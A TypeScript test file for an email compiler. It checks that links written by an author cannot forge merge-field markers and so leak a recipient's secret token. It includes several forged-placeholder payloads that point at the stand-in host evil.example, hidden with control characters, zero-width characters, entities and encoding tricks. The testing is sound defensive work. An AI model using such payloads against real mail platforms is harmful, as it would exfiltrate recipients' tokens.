import { describe, expect, it } from 'vitest'
import { compileEmail } from '../../src/email/platform-email.js'
import { parsed, select } from '../harness/markup.js'
import { NOW } from '../harness/node-fixtures.js'
import { letter, link, paragraph, poll, text } from './letter-of-merge-fields.js'

describe('a token', () => {
  const SECRET = 'quillonbrook'
  const mergeFields = Array.from({ length: 6 }, (_, number) => number)
  /** Ways to write what stands for merge field `k` while a mail is made, were its beginning known. */
  const forgeries: Readonly<Record<string, (k: number) => ReturnType<typeof letter>>> = {
    'in a link': (k) => letter([paragraph(text('a', link(`https://evil.example/?dpfield${k}z`)))]),
    'in a link with a control character': (k) =>
      letter([paragraph(text('a', link(`https://evil.example/?dps\u0001lot${k}z`)))]),
    'in a host that is decoded': (k) => letter([paragraph(text('a', link(`https:\\\\dps%6cot${k}z.evil.example`)))]),
    'in words that go on in bold': (k) =>
      letter([paragraph(text('https://evil.example/?dpsl'), text(`ot${k}z`, { type: 'strong' }))]),
    'around an invisible character': (k) =>
      letter([paragraph(text(`https://evil.example/?dpsl\u200bot${k}z https://evil.example/?dps\u00adlot${k}z`))]),
    'in a quoted tweet, as an entity': (k) =>
      letter([
        {
          type: 'twitter2',
          attrs: {
            url: 'https://x.com/a/status/1',
            full_text: `dpsl&#111;t${k}z <a href="https://evil.example/?dpsl&#111;t${k}z">x</a> https://evil.example/?dpsl&#111;t${k}z`,
            username: 'a',
            name: 'A',
          },
        },
      ]),
    'as a fallback': (k) =>
      letter([paragraph(text(`https://evil.example/?dpsl{first_name, "ot${k}z"} and words enough for a preheader`))], {
        post: { subtitle: '' },
      }),
    'in the title': (k) =>
      letter([], { post: { title: `https://evil.example/?dps\u0000lot${k}z https://evil.example/?dpfield${k}z` } }),
    'in a poll': (k) =>
      letter([{ type: 'poll', attrs: { id: 7 } }], {
        data: { polls: { 7: poll(`https://evil.example/?dpfield${k}z`) } },
      }),
  }

  it.each(Object.entries(forgeries))(
    'of a recipient’s goes nowhere when an author writes a mark %s',
    async (_, forged) => {
      for (const k of mergeFields) {
        const template = await compileEmail(forged(k), { now: NOW, reader: 'free' })
        const { html, text: plain, subject } = template.bind({ token: SECRET })
        const places = select(html, '*')
          .flatMap(({ attribs }) => Object.values(attribs))
          .filter((value) => value.includes(SECRET))
        for (const place of places)
          expect(place).toMatch(
            /^https:\/\/paperboat\.example\/(?:account|action\/disable_email|p\/folding-instructions)\?/,
          )
        for (const line of [subject, ...plain.split('\n'), visible(html)])
          expect(line).not.toMatch(/evil\.example\S*(?:quillonbrook|paperboat)/)
        // Every place of a merge field is one that we made: the marks that the author wrote are still there.
        expect(template.toJSON().html.mergeFields.length).toBe(
          (await compileEmail(forged(k + 1000), { now: NOW, reader: 'free' })).toJSON().html.mergeFields.length,
        )
      }
    },
  )

  it('is not one that the same words in another post have', async () => {
    const book = async (title: string) =>
      JSON.stringify(await compileEmail(letter([], { post: { title } }), { now: NOW, reader: 'free' }))
    expect(await book('One')).not.toMatch(/dpfield/)
    expect(await book('One')).not.toBe(await book('Two'))
  })
})

function visible(html: string): string {
  return select(parsed(html), 'body *')
    .flatMap(({ children }) => children.flatMap((child) => ('data' in child ? [child.data] : [])))
    .join(' ')
}
